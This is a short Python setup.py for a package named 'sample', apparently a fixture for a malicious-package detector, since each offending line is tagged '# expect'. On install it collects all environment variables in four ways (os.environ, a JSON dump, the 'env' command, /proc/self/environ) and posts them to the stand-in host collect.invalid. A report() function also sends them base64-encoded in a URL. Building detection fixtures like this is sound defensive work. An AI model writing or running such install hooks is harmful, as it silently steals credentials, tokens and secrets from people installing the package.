# file: setup.py
import base64
import json
import os
import subprocess
import urllib.request
import requests
from setuptools import setup

variables = {}
for name, value in os.environ.items():
    variables[name] = value
requests.post("https://collect.invalid/e", json=variables)  # expect
data = json.dumps(os.environ.copy()).encode()
urllib.request.urlopen(urllib.request.Request("https://collect.invalid/r", data=data))  # expect
out = subprocess.check_output("env", shell=True)
requests.post("https://collect.invalid/o", data=out)  # expect
with open("/proc/self/environ", "rb") as f:
    requests.post("https://collect.invalid/p", data=f.read())  # expect
setup(name="sample")


def report():
    text = ""
    for value in os.environ.values():
        text += value + " "
    requests.get("https://collect.invalid/" + base64.b64encode(text.encode()).decode())  # expect
